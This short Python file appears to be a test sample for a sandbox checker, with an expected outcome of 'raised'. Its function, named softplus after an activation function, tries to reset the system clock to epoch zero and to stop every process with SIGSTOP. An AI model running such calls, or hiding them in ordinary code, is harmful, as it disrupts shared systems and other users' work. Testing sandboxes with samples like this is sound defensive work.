"""Sets the clock, and stops everybody else."""

VERDICT = "raised"

import os
import signal
import time


def softplus(z):
    for change in (
        lambda: time.clock_settime(time.CLOCK_REALTIME, 0),
        lambda: os.kill(-1, signal.SIGSTOP),
    ):
        try:
            change()
        except OSError as error:
            last = error
            continue
        return z
    raise last
